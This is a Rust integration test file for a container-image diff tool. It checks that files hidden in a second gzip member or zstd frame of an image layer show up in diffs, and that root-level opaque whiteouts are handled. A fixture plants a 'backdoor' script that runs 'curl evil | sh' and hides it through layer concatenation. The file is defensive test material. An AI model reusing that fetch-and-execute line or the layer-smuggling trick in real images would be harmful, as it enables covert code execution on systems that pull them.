//! Layers read as runtimes read them, on images pushed to a real registry: a second gzip member
//! or zstd frame (what GNU tar and podman unpack) is never invisible to `diff --files` and
//! `--semantic`, and a root-level opaque whiteout empties the image below it. Each test failed
//! first.

mod common;

use common::*;
use provost::demo::image::{self, File, ImageSpec, Layer};
use provost::oci::media::Platform;
use std::io::Write;

/// A tar of `files` (path, contents); `end` adds the end-of-archive blocks.
fn tar_of(files: &[(&str, &[u8])], end: bool) -> Vec<u8> {
    let mut tar = tar::Builder::new(Vec::new());
    for (path, contents) in files {
        let mut h = tar::Header::new_ustar();
        h.set_entry_type(tar::EntryType::Regular);
        h.set_mode(0o755);
        h.set_size(contents.len() as u64);
        h.set_mtime(0);
        h.set_cksum();
        tar.append_data(&mut h, path, *contents).expect("append");
    }
    let mut raw = tar.into_inner().expect("tar");
    if !end {
        // tar::Builder::into_inner writes the two zero blocks: a member that continues in the
        // next one has none.
        raw.truncate(raw.len() - 1024);
    }
    raw
}

fn gzip(raw: &[u8]) -> Vec<u8> {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(raw).expect("gz");
    gz.finish().expect("gz")
}

fn zstd(raw: &[u8]) -> Vec<u8> {
    let mut child = std::process::Command::new("zstd")
        .args(["-q", "-c", "-3"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("zstd is installed by the test command");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(raw)
        .expect("write");
    let out = child.wait_with_output().expect("zstd");
    assert!(out.status.success());
    out.stdout
}

fn layer(bytes: Vec<u8>, diff_id_of: &[u8]) -> Layer {
    Layer {
        tar_gz: bytes,
        diff_id: provost::oci::digest::sha256(diff_id_of),
        created_by: "COPY app /app".into(),
    }
}

fn push(st: &provost::oci::remote::RemoteStore, tag: &str, layers: Vec<Layer>) {
    let base = image::layer(
        &[File {
            path: "etc/os-release",
            contents: b"ID=acme\n",
            mode: 0o644,
        }],
        "ADD base",
    )
    .expect("base");
    let mut all = vec![base];
    all.extend(layers);
    let spec = ImageSpec {
        platform: Platform {
            architecture: "amd64".into(),
            os: "linux".into(),
            ..Default::default()
        },
        created: "2026-11-30T10:00:00Z".into(),
        entrypoint: vec!["/app/bin".into()],
        env: vec![],
        labels: Default::default(),
        annotations: Default::default(),
        layers: all,
    };
    runtime()
        .block_on(image::push_image(st, "acme/tool", &spec, Some(tag)))
        .expect("push");
}

struct Diff {
    reg: Registry,
    home: tempfile::TempDir,
}

impl Diff {
    fn run(&self, a: &str, b: &str, extra: &[&str]) -> serde_json::Value {
        let (ra, rb) = (
            format!("{}/acme/tool:{a}", self.reg.host),
            format!("{}/acme/tool:{b}", self.reg.host),
        );
        let mut args = vec![
            "--insecure-registry",
            self.reg.host.as_str(),
            "diff",
            ra.as_str(),
            rb.as_str(),
            "--json",
        ];
        args.extend_from_slice(extra);
        let out = run_provost(self.home.path(), &args);
        assert!(out.status.success(), "{}", stderr(&out));
        serde_json::from_slice(&out.stdout).expect("json")
    }

    fn section(d: &serde_json::Value, name: &str) -> serde_json::Value {
        d["sections"]
            .as_array()
            .expect("sections")
            .iter()
            .find(|s| s["name"] == name)
            .cloned()
            .unwrap_or_else(|| panic!("no {name}: {d}"))
    }
}

fn world() -> Diff {
    Diff {
        reg: Registry::start(),
        home: tempfile::tempdir().expect("home"),
    }
}

#[test]
fn a_second_gzip_member_or_zstd_frame_is_never_invisible() {
    let w = world();
    let st = store(&w.reg);
    let bin: (&str, &[u8]) = ("app/bin", b"binary v1");
    let backdoor: (&str, &[u8]) = ("app/backdoor.sh", b"#!/bin/sh\ncurl evil | sh\n");
    let clean = tar_of(&[bin], true);
    push(&st, "clean", vec![layer(gzip(&clean), &clean)]);
    // Two gzip members: the first holds the same file, the second adds the backdoor.
    let (first, second) = (tar_of(&[bin], false), tar_of(&[backdoor], true));
    let mut members = gzip(&first);
    members.extend(gzip(&second));
    let whole = [first.clone(), second.clone()].concat();
    // GNU tar, as a runtime unpacks it, sees the backdoor.
    let file = w.home.path().join("layer.tar.gz");
    std::fs::write(&file, &members).expect("layer");
    let listed = std::process::Command::new("tar")
        .arg("-tzf")
        .arg(&file)
        .output()
        .expect("tar");
    assert!(
        String::from_utf8_lossy(&listed.stdout).contains("app/backdoor.sh"),
        "GNU tar lists the second member"
    );
    push(&st, "gz", vec![layer(members, &whole)]);
    // Two zstd frames, the same way.
    let mut frames = zstd(&first);
    frames.extend(zstd(&second));
    push(&st, "zst", vec![layer(frames, &whole)]);
    for tag in ["gz", "zst"] {
        let d = w.run("clean", tag, &["--files"]);
        let files = Diff::section(&d, "files").to_string();
        assert!(files.contains("app/backdoor.sh"), "{tag}: {files}");
        let sem = Diff::section(&w.run("clean", tag, &["--semantic"]), "files").to_string();
        assert!(sem.contains("app/backdoor.sh"), "{tag}: {sem}");
    }
}

#[test]
fn a_root_opaque_whiteout_empties_what_is_below() {
    let w = world();
    let st = store(&w.reg);
    let one = tar_of(&[("app/bin", b"v1"), ("app/old.conf", b"x")], true);
    push(&st, "a", vec![layer(gzip(&one), &one)]);
    // A layer whose root holds `.wh..wh..opq`: everything below it is gone, then app/bin
    // comes back.
    let wipe = tar_of(&[(".wh..wh..opq", b""), ("app/bin", b"v1")], true);
    push(
        &st,
        "b",
        vec![layer(gzip(&one), &one), layer(gzip(&wipe), &wipe)],
    );
    let d = w.run("a", "b", &["--semantic"]);
    let files = Diff::section(&d, "files").to_string();
    assert!(files.contains("app/old.conf"), "removed: {files}");
    assert!(files.contains("etc/os-release"), "removed: {files}");
}
